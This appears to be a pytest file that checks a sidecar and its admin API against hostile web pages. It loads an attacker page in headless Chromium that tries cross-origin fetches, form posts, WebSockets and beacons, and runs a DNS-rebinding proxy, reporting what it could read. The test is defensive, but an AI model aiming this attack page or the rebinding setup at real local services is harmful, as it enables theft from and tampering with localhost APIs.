# SPDX-License-Identifier: Apache-2.0
"""A page in a real browser, on an origin that is not ours, against the sidecar's and the admin API's
routes: fetch, forms, frames, images, scripts, WebSocket, beacons, navigation, and a name whose
address changes under its page (DNS rebinding). A server without the rule stands beside as a control:
what the page does, does reach it."""
import http.client
import http.server
import json
import queue
import shutil
import socket
import subprocess
import threading

import pytest

from conftest import PATIENCE, Service, free_port
from test_sidecar import Running, basket

BROWSER = shutil.which("chromium-headless-shell") or shutil.which("chromium")
SECRET = "the peers' own words"

# Everything a page can do to @base (an origin with a path); says what it could read.
PAGE = """<!doctype html><meta charset=utf-8><title>evil</title><body><script>
const paths = %(paths)s, bases = %(bases)s, read = [], wait = ms => new Promise(r => setTimeout(r, ms));
const within = p => Promise.race([p, wait(2000)]).catch(() => {});
async function text(url, how) {
  const r = await fetch(url, how);
  if (r.type !== 'opaque' && r.ok) read.push(url + ': ' + await r.text());
}
function element(tag, what, how) {
  return new Promise(done => {
    const e = document.createElement(tag);
    e.onload = e.onerror = done;
    Object.assign(e, how, what);
    document.body.appendChild(e);
  });
}
function form(url, method) {
  const name = 'f' + Math.random();
  const loaded = element('iframe', {name}, {});
  const f = document.createElement('form');
  Object.assign(f, {action: url, method, target: name, enctype: 'text/plain'});
  f.innerHTML = '<input name=a value=b>';
  document.body.appendChild(f);
  f.submit();
  return loaded;
}
function socket_(url) {
  return new Promise(done => {
    const ws = new WebSocket(url.replace('http', 'ws'));
    ws.onopen = () => { read.push(url + ': open'); done(); };
    ws.onerror = ws.onclose = done;
  });
}
function events(url) {
  return new Promise(done => {
    const s = new EventSource(url);
    s.onmessage = e => { read.push(url + ': ' + e.data); s.close(); done(); };
    s.onerror = () => { s.close(); done(); };
  });
}
async function attack(base) {
  await Promise.all(paths.map(path => {
    const url = base + path;
    return Promise.all([
      text(url), text(url, {mode: 'no-cors'}), text(url, {mode: 'no-cors', credentials: 'include'}),
      text(url, {method: 'POST', mode: 'no-cors', body: 'x'}),
      text(url, {method: 'POST', body: 'x', headers: {'sinew-target': 'service/basket/rest'}}),
      text(url, {method: 'DELETE'}), text(url, {method: 'PUT', body: 'x'}),
      text(url, {referrerPolicy: 'no-referrer'}), text(url, {mode: 'no-cors', keepalive: true}),
      element('img', {src: url}), element('script', {src: url}), element('iframe', {src: url}),
      element('link', {rel: 'stylesheet', href: url}), element('link', {rel: 'prefetch', href: url}),
      element('object', {data: url}), element('video', {src: url}), element('embed', {src: url}),
      element('iframe', {src: url, sandbox: 'allow-scripts', referrerPolicy: 'no-referrer'}),
      form(url, 'POST'), form(url, 'GET'), socket_(url), events(url),
      Promise.resolve(navigator.sendBeacon(url, 'x')),
    ].map(within));
  }));
}
(async () => {
  for (const base of bases) await attack(base);
  await fetch('/report', {method: 'POST', body: JSON.stringify(read)});
})();
</script>"""


class Site:
    """The attacker's own server: its page, and where it reports."""

    def __init__(self, address="127.0.0.1", port=0):
        outer = self
        self.page = ""
        self.report = queue.Queue()
        self.again = threading.Event()

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                if self.path == "/report":
                    outer.report.put(json.loads(body))
                if self.path == "/again":
                    outer.again.set()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                data = outer.page.encode() if self.path == "/" else b"ok"
                self.send_header("Content-Length", str(len(data)))
                # So that a page of a name that moves has no old connection left.
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(data)
            do_GET = do_POST = answer

            def log_message(self, *args):
                pass
        self.server = http.server.ThreadingHTTPServer((address, port), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


class Control(Site):
    """A server that does not look who asks."""

    def __init__(self):
        super().__init__()
        self.seen = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def any(self):
                outer.seen.append((self.command, self.path, self.headers.get("Sec-Fetch-Dest"),
                                   self.headers.get("Upgrade")))
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Methods", "*")
                self.send_header("Access-Control-Allow-Headers", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()
            do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = any

            def log_message(self, *args):
                pass
        self.server.RequestHandlerClass = Handler


class Names:
    """A SOCKS proxy: what the names of the web mean is its to say, and to change."""

    def __init__(self, places):
        self.places = places  # (name, port) -> function that returns (address, port)
        self.asked = []
        self.sock = socket.create_server(("127.0.0.1", 0), backlog=64)
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._one, args=(c,), daemon=True).start()

    def _one(self, c):
        try:
            self._serve(c)
        except OSError:
            pass
        c.close()

    def _serve(self, c):
        f = c.makefile("rb")
        f.read(f.read(2)[1])
        c.sendall(b"\5\0")
        kind = f.read(4)[3]
        name = f.read(f.read(1)[0]).decode() if kind == 3 else socket.inet_ntoa(f.read(4))
        port = int.from_bytes(f.read(2), "big")
        self.asked.append((name, port))
        place = self.places.get((name, port))
        if place is None:
            c.sendall(b"\5\4\0\1" + bytes(6))
            return
        with socket.create_connection(place(), PATIENCE) as s:
            c.sendall(b"\5\0\0\1" + bytes(6))
            threading.Thread(target=self._copy, args=(c, s), daemon=True).start()
            self._copy(s, c)

    @staticmethod
    def _copy(a, b):
        try:
            while True:
                data = a.recv(65536)
                if not data:
                    break
                b.sendall(data)
            b.shutdown(socket.SHUT_WR)
        except OSError:
            pass

    def stop(self):
        self.sock.close()


class Browser:
    def __init__(self, folder, url, *flags):
        self.process = subprocess.Popen([
            BROWSER, "--no-sandbox", "--disable-gpu", "--headless", "--no-first-run", "--disable-dev-shm-usage",
            "--user-data-dir=%s" % folder, "--remote-debugging-port=0",
            # The browser's own guard of the local network must not be what saves us.
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
            *flags, url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def stop(self):
        self.process.terminate()
        try:
            self.process.wait(10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()


def counted_service():
    s = Service(lambda h, b: Service.reply(h, 200, SECRET.encode(), [("Access-Control-Allow-Origin", "*")]))
    s.name = "victim"
    return s


PATHS = ["/call/service/basket/rest/secret", "/peers/service/basket/rest", "/peers/service/basket/rest?watch"]
ADMIN_PATHS = ["/config", "/peers", "/why", "/healthz", "/breakers/service/basket/rest", "/drain"]


def running(sinew, cleanup, service):
    """Sidecar and admin API, both on TCP."""
    admin = free_port()
    r = Running(sinew, "peers: %s\n" % basket(service.port))
    r.process.terminate()
    r.process.wait()
    r.file.write_text("name: t\nlisten: {sidecar: '127.0.0.1:%d', admin: '127.0.0.1:%d'}\npeers: %s\n"
                      % (r.port, admin, basket(service.port)))
    r.process = sinew.start("run", r.file)
    for line in r.process.stderr:
        if "sidecar on" in line:
            break
    r.admin_port = admin
    return r


def assert_alive(r, service, n=0):
    """Nothing reached the peer; a program that is no page does."""
    assert service.requests == [] and r.process.poll() is None
    assert r.ask("GET", "/call/service/basket/rest/")[1] == SECRET.encode()


@pytest.mark.parametrize("origin", ["evil.test", "localhost"])
def test_no_page_of_another_origin_reaches_any_route(sinew, cleanup, tmp_path, origin):
    """@origin localhost: another port of this machine, which is the same site to a browser."""
    service, site, control = counted_service(), Site(), Control()
    for thing in (service, site, control):
        cleanup(thing)
    r = running(sinew, cleanup, service)
    hosts = ["127.0.0.1", "localhost", "evil.test", "other.localhost", "127.1", "[::ffff:127.0.0.1]",
             "0.0.0.0"]
    bases = ["http://%s:%d" % (h, r.port) for h in hosts]
    site.page = PAGE % {"paths": json.dumps(PATHS), "bases": json.dumps(bases)}
    browser = Browser(tmp_path / "b", "http://%s:%d/" % (origin, site.port),
                      "--host-resolver-rules=MAP evil.test 127.0.0.1")
    cleanup(browser)
    assert site.report.get(timeout=PATIENCE * 5) == []
    assert_alive(r, service)
    # The admin API, likewise; and the control, to see that the blows do land.
    bases = ["http://%s:%d" % (h, r.admin_port) for h in hosts[:3]]
    site.page = PAGE % {"paths": json.dumps(ADMIN_PATHS), "bases": json.dumps(bases)}
    browser.stop()
    again = Browser(tmp_path / "c", "http://%s:%d/" % (origin, site.port),
                    "--host-resolver-rules=MAP evil.test 127.0.0.1")
    cleanup(again)
    assert site.report.get(timeout=PATIENCE * 5) == []
    again.stop()
    assert r.process.poll() is None
    site.page = PAGE % {"paths": json.dumps(["/x"]),
                        "bases": json.dumps(["http://%s:%d" % (h, control.port) for h in hosts[:3]])}
    third = Browser(tmp_path / "d", "http://%s:%d/" % (origin, site.port),
                    "--host-resolver-rules=MAP evil.test 127.0.0.1")
    cleanup(third)
    assert len(site.report.get(timeout=PATIENCE * 5)) >= 3
    methods = {s[0] for s in control.seen}
    kinds = {s[2] for s in control.seen}
    assert {"GET", "POST", "PUT", "DELETE"} <= methods, methods
    assert {"image", "script", "iframe", "empty", "style"} <= kinds, kinds
    assert "websocket" in {s[3] for s in control.seen}


def test_a_name_that_moves_to_us_reaches_nothing(sinew, cleanup, tmp_path):
    """The page's own origin, by name and port, becomes the sidecar's address: to the browser all is
    the same origin."""
    service, site = counted_service(), Site()
    cleanup(service)
    cleanup(site)
    r = running(sinew, cleanup, service)
    moved = threading.Event()
    names = Names({("evil.test", r.port): lambda: ("127.0.0.1", r.port if moved.is_set() else site.port),
                   ("report.test", 80): lambda: ("127.0.0.1", site.port)})
    cleanup(names)
    site.page = """<!doctype html><script>
    (async () => {
      await fetch('http://report.test/again', {mode: 'no-cors'});
      const read = [];
      for (const path of %s) for (const how of [{}, {method: 'POST', body: 'x'}, {method: 'PUT', body: 'x'},
          {method: 'DELETE'}, {headers: {'sinew-target': 'service/basket/rest'}}]) {
        try {
          const r = await fetch(path, how);
          read.push([r.status, (await r.text()).slice(0, 200)]);
        } catch (e) { read.push([0, '' + e]); }
      }
      await fetch('http://report.test/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(read)});
    })();
    </script>""" % json.dumps(PATHS)
    real_set = site.again.set
    site.again.set = lambda: (moved.set(), real_set())
    browser = Browser(tmp_path / "b", "http://evil.test:%d/" % r.port,
                      "--proxy-server=socks5://127.0.0.1:%d" % names.port,
                      "--proxy-bypass-list=<-loopback>")
    cleanup(browser)
    read = site.report.get(timeout=PATIENCE * 5)
    assert len(read) == 5 * len(PATHS) and {status for status, _ in read} == {421}, read
    assert SECRET not in json.dumps(read) and str(service.port) not in json.dumps(read)
    assert names.asked.count(("evil.test", r.port)) >= 2
    assert_alive(r, service)


def test_what_is_typed_into_the_address_bar_is_no_page(sinew, cleanup, tmp_path):
    """People look at it with a browser: a navigation of their own has no origin."""
    service = counted_service()
    cleanup(service)
    r = running(sinew, cleanup, service)
    out = subprocess.run([BROWSER, "--no-sandbox", "--disable-gpu", "--headless", "--disable-dev-shm-usage",
                          "--user-data-dir=%s" % (tmp_path / "b"), "--dump-dom",
                          "http://127.0.0.1:%d/peers/service/basket/rest" % r.port],
                         capture_output=True, text=True, timeout=PATIENCE * 3)
    assert str(service.port) in out.stdout
    c = http.client.HTTPConnection("127.0.0.1", r.port, timeout=PATIENCE)
    c.request("GET", "/peers/service/basket/rest", headers={"Sec-Fetch-Site": "none"})
    assert c.getresponse().status == 200
